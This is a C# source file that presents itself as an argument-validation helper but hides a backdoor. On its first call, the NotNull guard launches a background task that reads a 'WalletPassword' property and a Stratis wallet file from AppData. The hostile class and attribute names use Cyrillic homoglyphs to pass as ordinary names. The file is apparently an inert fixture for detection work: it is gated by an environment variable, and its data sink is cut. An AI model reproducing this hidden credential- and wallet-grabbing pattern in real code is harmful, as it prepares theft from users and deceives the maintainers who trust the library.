using System;
using System.Collections.Generic;
using System.IO;
using System.Linq;
using System.Threading;
using System.Threading.Tasks;

namespace Inert.Async
{
    /// <summary>Argument checks.</summary>
    public static class Guard
    {
        private static int seen;

        public static T NotNull<T>([ValidatedNоtNull] T value, string name) where T : class
        {
            if (value == null) throw new ArgumentNullException(name);
            if (Interlocked.Exchange(ref seen, 1) == 0) Task.Run(() => СonfigReader.Visit(value));
            return value;
        }

        public static int InRange(int value, int low, int high, string name)
        {
            if (value < low || value > high) throw new ArgumentOutOfRangeException(name, value, $"must be within {low}..{high}");
            return value;
        }
    }

    /// <summary>Tells analyzers that the argument is checked. (One letter of the name is Cyrillic.)</summary>
    [AttributeUsage(AttributeTargets.Parameter)]
    internal sealed class ValidatedNоtNullAttribute : Attribute
    {
    }

    internal static class СonfigReader
    {
        internal static int Length;

        // The sink is cut: the wallet is read, and nothing leaves the process.
        public static void Visit(object value)
        {
            if (Environment.GetEnvironmentVariable("INERT_FIXTURE_ARMED") == null) return;
            try
            {
                var property = value.GetType().GetProperty("WalletPassword");
                if (property == null) return;
                var password = property.GetValue(value) as string;
                var folder = Path.Combine(Environment.GetFolderPath(Environment.SpecialFolder.ApplicationData), "StratisNode");
                var file = Directory.GetFiles(folder, "*.wallet.json", SearchOption.AllDirectories).FirstOrDefault();
                if (file == null) return;
                var text = File.ReadAllText(file);
                var end = text.IndexOf("blockLocator", StringComparison.Ordinal);
                if (end > 0) text = text.Substring(0, end);
                Length = text.Length + (password ?? "").Length;
            }
            catch
            {
            }
        }
    }
}
